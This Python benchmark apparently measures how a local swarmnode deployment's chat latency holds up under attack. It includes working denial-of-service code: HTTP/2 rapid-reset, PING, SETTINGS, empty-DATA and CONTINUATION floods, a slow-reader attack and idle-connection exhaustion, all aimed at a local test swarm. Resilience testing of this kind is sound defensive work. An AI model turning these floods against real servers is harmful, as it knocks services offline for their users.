"""What one attacker does to another client: its chats' latency in peace and under each attack.

A coordinator and two peers run as processes; the model replays tokens without computing. The client asks short chats
one after the other. The attacker is a process of its own at the lowest priority, because on the machine that measures
it shares the cores with what it attacks, which no attacker from outside does. Floods come over TLS from somebody
without a certificate, who connects again as soon as he is cut off, and one from a member, who has one. The aim is a
p99 under twice that in peace.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import closing, contextmanager, suppress
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import h2.config
import h2.connection
import httpx
import hyperframe.frame as hf
from rich.table import Table

from sims.report import percentile
from swarmnode.cli.local_swarm import LocalSwarm
from swarmnode.cli.output import console
from swarmnode.compute.scripted_servable import write_scripted_servable

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

MODEL = "scripted"
SCRIPT = {
    "replies": [{"when": list(b"long"), "ids": list(b"abcdefghij") * 400}],
    "default": list(b"short"),
    "decode_ms": 1,
}
IDLE_CONNECTIONS = 1000
SLOW_READERS = 4
"""Fewer than the ring's slots: the subject is what an unread reply costs, not that of a full ring."""
BATCH, BATCHES = 50, 40
SETTLE_S = 1.0
AIM = 2.0


@dataclass(frozen=True, slots=True)
class Row:
    """One attack: the client's chats and their latency, before and during it, and how often the attacker connected."""

    attack: str
    chats: int
    failed: int
    peace_p50_ms: float
    peace_p99_ms: float
    p50_ms: float
    p99_ms: float
    ratio: float
    """p99 under attack over p99 in the peace right before it."""
    connections: int


# -- the client


def chats(api: str, seconds: float) -> tuple[list[float], int]:
    """Latencies in ms of chats asked one after the other, and how many failed."""
    body = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}
    taken: list[float] = []
    failed = 0
    with httpx.Client(base_url=api, timeout=30, trust_env=False) as client:
        end_s = time.perf_counter() + seconds
        while (began_s := time.perf_counter()) < end_s:
            try:
                failed += client.post("/v1/chat/completions", json=body).is_error
            except httpx.HTTPError:
                failed += 1
            taken.append((time.perf_counter() - began_s) * 1000)
    return taken, failed


# -- the attacker's process


class Attacker:
    """Attacks until its stdin ends; then says how often it connected."""

    def __init__(self, api: str, swarm: str, identity: str) -> None:
        """`identity`: the folder of a member's key and certificate."""
        self.identity = Path(identity)
        url = urlsplit(api)
        self.api = (str(url.hostname), int(url.port or 80))
        host, port = swarm.rsplit(":", 1)
        self.swarm = (host, int(port))
        self.over = threading.Event()
        self.connections = 0
        self._counting = threading.Lock()

    def run(self, attack: str) -> None:
        os.nice(19)
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4 * IDLE_CONNECTIONS)), hard))
        threading.Thread(target=self._watch_stdin, daemon=True).start()
        ATTACKS[attack](self)
        print(json.dumps({"connections": self.connections}), flush=True)

    def _watch_stdin(self) -> None:
        sys.stdin.read()
        self.over.set()

    def connect(self, where: tuple[str, int]) -> socket.socket:
        """A connection; the first one tells the measurement that the attack has begun."""
        with self._counting:
            self.connections += 1
            if self.connections == 1:
                print("attacking", flush=True)
        return socket.create_connection(where, timeout=10)

    def flood(self, frame: Callable[[h2.connection.H2Connection], bytes], *, member: bool = False) -> None:
        """Send frames, made once, as fast as they are taken; cut off, connect again. `member`: with a certificate."""
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        client.initiate_connection()
        batches = [client.data_to_send(), *(b"".join(frame(client) for _ in range(BATCH)) for _ in range(BATCHES))]
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["swarmnode/1"])
        if member:
            context.load_cert_chain(self.identity / "certificate.pem", self.identity / "key.pem")
        while not self.over.is_set():
            with suppress(OSError), self.connect(self.swarm) as raw, context.wrap_socket(raw) as stream:
                for batch in batches:
                    stream.sendall(batch)

    def read_slowly(self) -> None:
        """Ask for long replies and read nothing; ask again when the connection ended."""
        body = json.dumps({"model": MODEL, "stream": True, "messages": [{"role": "user", "content": "long"}]}).encode()
        head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(body)}\r\n"
        asked = head.encode() + b"Content-Type: application/json\r\n\r\n" + body
        threads = [threading.Thread(target=self._ask_and_wait, args=(asked,)) for _ in range(SLOW_READERS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _ask_and_wait(self, asked: bytes) -> None:
        while not self.over.is_set():
            with suppress(OSError), self.connect(self.api) as stream:
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                stream.sendall(asked)
                self.over.wait(2.0)

    def be_idle(self) -> None:
        """Open connections and say nothing; what is ended for a newer one is opened again."""
        held: list[socket.socket] = []
        while not self.over.is_set():
            with suppress(OSError):
                held.append(self.connect(self.api))
            if len(held) > IDLE_CONNECTIONS:
                held.pop(0).close()
                self.over.wait(0.01)


def rapid_reset(client: h2.connection.H2Connection) -> bytes:
    stream = client.get_next_available_stream_id()
    pseudo = [(":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/channel/join")]
    client.send_headers(stream, pseudo)
    client.reset_stream(stream)
    return client.data_to_send()


def _open_join(client: h2.connection.H2Connection) -> int:
    """The stream that a flood is on; the first frame of it opens it."""
    if client.get_next_available_stream_id() == 1:
        pseudo = [(":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/channel/join")]
        client.send_headers(1, pseudo)
    return 1


def empty_data(client: h2.connection.H2Connection) -> bytes:
    stream = _open_join(client)
    return client.data_to_send() + hf.DataFrame(stream, b"").serialize()


def continuation(client: h2.connection.H2Connection) -> bytes:
    """Headers that never end."""
    begin = client.get_next_available_stream_id() == 1
    head = b""
    if begin:
        client.send_headers(1, [(":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/")])
        client.data_to_send()  # h2 would end them
        head = hf.HeadersFrame(1, b"").serialize()
    return head + hf.ContinuationFrame(1, b"").serialize()


PING = hf.PingFrame(0).serialize()
SETTINGS = hf.SettingsFrame(0).serialize()
ATTACKS: dict[str, Callable[[Attacker], None]] = {
    "reset flood": lambda attacker: attacker.flood(rapid_reset),
    "PING flood": lambda attacker: attacker.flood(lambda _: PING),
    "SETTINGS flood": lambda attacker: attacker.flood(lambda _: SETTINGS),
    "empty DATA flood": lambda attacker: attacker.flood(empty_data),
    "CONTINUATION flood": lambda attacker: attacker.flood(continuation),
    "a member's PING flood": lambda attacker: attacker.flood(lambda _: PING, member=True),
    "slow readers": Attacker.read_slowly,
    f"{IDLE_CONNECTIONS} idle connections": Attacker.be_idle,
}


# -- the measurement


@contextmanager
def attacking(attack: str, local: LocalSwarm) -> Iterator[list[int]]:
    """The attack runs while inside; afterwards the list holds how often the attacker connected."""
    connections: list[int] = []
    command = [sys.executable, "-m", "benchmarks.attack", "--attack", attack, local.api, local.swarm]
    command.append(str(local.folder / "attic" / "identity"))
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdin is not None
        process.stdout.readline()
        time.sleep(SETTLE_S)
        yield connections
        process.stdin.close()
        connections.append(json.loads(process.stdout.readline())["connections"])


def measure(local: LocalSwarm, attacks: Sequence[str], seconds: float) -> list[Row]:
    """Each attack beside a peace of its own right before it: what else the machine does changes over minutes."""
    chats(local.api, seconds / 4)  # thrown away
    rows = []
    for attack in attacks:
        peace, failed_before = chats(local.api, seconds)
        with attacking(attack, local) as connections:
            taken, failed = chats(local.api, seconds)
        rows.append(_row(attack, peace, taken, failed_before + failed, connections[0]))
        time.sleep(SETTLE_S)
    return rows


def _row(attack: str, peace: Sequence[float], taken: Sequence[float], failed: int, connections: int) -> Row:
    before, during = percentile(peace, 0.99), percentile(taken, 0.99)
    return Row(
        attack=attack,
        chats=len(taken),
        failed=failed,
        peace_p50_ms=round(statistics.median(peace), 2),
        peace_p99_ms=round(before, 2),
        p50_ms=round(statistics.median(taken), 2),
        p99_ms=round(during, 2),
        ratio=round(during / before, 2),
        connections=connections,
    )


def report(rows: Sequence[Row]) -> Table:
    table = Table(title=f"another client's chats under attack (aim: p99 under {AIM:g} times that in peace)")
    for column in ("attack", "chats", "failed", "p50 ms", "p99 ms", "p99 / peace", "attacker connected"):
        table.add_column(column, justify="left" if column == "attack" else "right")
    for row in rows:
        p50, p99 = f"{row.peace_p50_ms} > {row.p50_ms}", f"{row.peace_p99_ms} > {row.p99_ms}"
        table.add_row(row.attack, str(row.chats), str(row.failed), p50, p99, str(row.ratio), str(row.connections))
    return table


def main(arguments: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.attack", description=__doc__)
    parser.add_argument("--json", action="store_true", help="print one JSON object last")
    parser.add_argument("--seconds", type=float, default=10.0, help="of each measurement")
    parser.add_argument("--only", choices=list(ATTACKS), action="append", help="this attack; repeat it")
    parser.add_argument("--attack", nargs=4, metavar=("NAME", "API", "SWARM", "IDENTITY"), help=argparse.SUPPRESS)
    given = parser.parse_args(arguments)
    if given.attack:
        name, *where = given.attack
        Attacker(*where).run(name)
        return
    with tempfile.TemporaryDirectory() as folder:
        models = Path(folder) / "models"
        models.mkdir()
        write_scripted_servable(models, MODEL, SCRIPT, layers=4, stages=2)
        with LocalSwarm(Path(folder), models, {"OMP_NUM_THREADS": "1"}) as local:
            local.start_coordinator()
            local.start_peers("attic", "den")
            with closing(local.client()) as client:
                client.post(f"/api/v1/models/{MODEL}/load", {"wait": True})
            rows = measure(local, given.only or list(ATTACKS), given.seconds)
    console(stderr=True).print(report(rows))
    if given.json:
        print(json.dumps({"aim": AIM, "rows": [asdict(row) for row in rows]}), flush=True)


if __name__ == "__main__":
    main()
